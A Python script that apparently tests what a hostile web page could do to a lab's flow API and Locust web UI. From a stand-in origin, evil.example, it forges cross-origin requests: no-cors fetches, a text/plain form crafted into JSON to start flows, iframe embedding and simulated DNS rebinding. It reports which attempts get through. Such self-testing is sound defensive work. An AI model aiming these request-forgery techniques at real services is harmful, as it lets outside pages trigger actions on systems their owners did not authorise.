"""Tries what a hostile web page could do to the lab: cross_origin.py BRIDGE LOCUST, with the URLs of both.

The page has another origin, http://evil.example, and runs in a browser that can reach the lab. Prints a JSON object
with the result of every attempt: the status of the server's answer, or "blocked" if the browser hides the answer.
"""

import json
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any
from urllib.parse import urlencode, urlsplit

from chromium import open_page
from playwright.sync_api import Page

ANSWER_MS = 30_000
EVIL = "evil.example"
REBOUND = "rebound.example"
"""A host name of the attacker that resolves first to its own server, and then to the lab (DNS rebinding)."""
START = json.dumps({"flow": "Empty", "args": {}})
FORM = urlencode({"user_count": 1, "spawn_rate": 1, "workload": "empty", "node": "", "counterparty": ""})

SEND = """async ([url, options]) => {
    try {
        const answer = await fetch(url, options);
        return answer.type === "opaque" ? "opaque" : await answer.text();
    } catch {
        return "blocked";
    }
}"""
SUBMIT = """([url, enctype, name, value]) => {
    const form = Object.assign(document.createElement("form"), {action: url, method: "POST", enctype});
    const field = Object.assign(document.createElement("input"), {name, value});
    form.append(field);
    document.body.append(form);
    form.submit();
}"""
EMBED = """([tag, url]) => new Promise(resolve => {
    const one = document.createElement(tag);
    one.onload = one.onerror = () => resolve();
    one.src = url;
    document.body.append(one);
})"""


class EmptyPage(BaseHTTPRequestHandler):
    """The attacker's server."""

    def do_GET(self) -> None:
        """Answer any path with an empty page."""
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>A page of another origin</title>")

    def log_message(self, *_: object) -> None:
        """Print no log."""


@contextmanager
def attacker() -> Iterator[str]:
    """Start the attacker's server, and yield the URL of its page."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), EmptyPage)
    Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://{EVIL}:{server.server_port}/"
    finally:
        server.shutdown()


class HostilePage:
    """A page of another origin. Its methods make one attempt each, and return the result."""

    def __init__(self, page: Page, address: str) -> None:
        self._page = page
        self._address = address

    def send(self, url: str, media_type: str = "", body: str | None = None) -> int:
        """Send a request without reading the answer, which needs no permission. Returns the status of the answer."""
        method = "GET" if body is None else "POST"
        headers = {} if body is None else {"Content-Type": media_type}
        options = {"method": method, "mode": "no-cors", "headers": headers, "body": body}
        return self._status(url, SEND, [url, options])

    def read(self, url: str, media_type: str = "", body: str | None = None) -> str:
        """Send a request and try to read the answer, for which the browser asks the server (CORS).

        Returns the answer, or "blocked".
        """
        self._page.goto(self._address)
        method = "GET" if body is None else "POST"
        headers = {"Content-Type": media_type} if media_type else {}
        return str(self._page.evaluate(SEND, [url, {"method": method, "headers": headers, "body": body}]))

    def submit(self, url: str, enctype: str, name: str, value: str) -> int:
        """Submit a form, which leaves the page. Returns the status of the answer."""
        self._page.goto(self._address)
        with self._page.expect_navigation(timeout=ANSWER_MS) as answer:
            self._page.evaluate(SUBMIT, [url, enctype, name, value])
        return answer.value.status

    def embed(self, tag: str, url: str) -> int:
        """Load the URL in an element of the page. Returns the status of the answer."""
        return self._status(url, EMBED, [tag, url])

    def visit(self, url: str) -> int:
        """Navigate to the URL. Returns the status of the answer."""
        answer = self._page.goto(url)
        return answer.status if answer else 0

    def _status(self, url: str, script: str, arguments: list[Any]) -> int:
        self._page.goto(self._address)
        with self._page.expect_response(url, timeout=ANSWER_MS) as answer:
            self._page.evaluate(script, arguments)
        return answer.value.status


def attack(page: HostilePage, bridge: str, locust: str) -> dict[str, Any]:
    """Make all attempts, and return their results by name."""
    flows = f"{bridge}/v1/nodes/PartyA/flows"
    form_type = "application/x-www-form-urlencoded"
    rebound_bridge, rebound_locust = (f"http://{REBOUND}:{urlsplit(url).port}" for url in (bridge, locust))
    # A form with text/plain sends NAME=VALUE, which can be crafted to be JSON.
    name, value = START[:-1] + ', "clientId": "', '"}'
    return {
        "start a flow": page.send(flows, "text/plain", START),
        "start a flow by a form": page.submit(flows, "text/plain", name, value),
        "start a flow as JSON": page.read(flows, "application/json", START),
        "start a run": page.send(f"{locust}/swarm", form_type, FORM),
        "start a run by a form": page.submit(f"{locust}/swarm", form_type, "user_count", "1"),
        "stop the run": page.send(f"{locust}/stop", form_type, ""),
        "stop the run by a GET": page.send(f"{locust}/stop"),
        "reset the statistics": page.send(f"{locust}/stats/reset", form_type, ""),
        "change the users": page.send(f"{locust}/user", "text/plain", "{}"),
        "show the web UI in a frame": page.embed("iframe", f"{locust}/"),
        "read the nodes": page.read(f"{bridge}/v1/nodes"),
        "read the statistics": page.read(f"{locust}/stats/requests"),
        "read the nodes by rebinding": page.visit(f"{rebound_bridge}/v1/nodes"),
        "read the web UI by rebinding": page.visit(f"{rebound_locust}/"),
        "lead the user to the web UI": page.visit(f"{locust}/"),
    }


def main(bridge: str, locust: str) -> None:
    rebound = {f"{REBOUND}:{urlsplit(url).port}": urlsplit(url).netloc for url in (bridge, locust)}
    hosts = ",".join(f"MAP {name} {to}" for name, to in {EVIL: "127.0.0.1", **rebound}.items())
    with attacker() as address, open_page(hosts=hosts) as (page, _):
        print(json.dumps(attack(HostilePage(page, address), bridge, locust)))


if __name__ == "__main__":
    main(*sys.argv[1:])
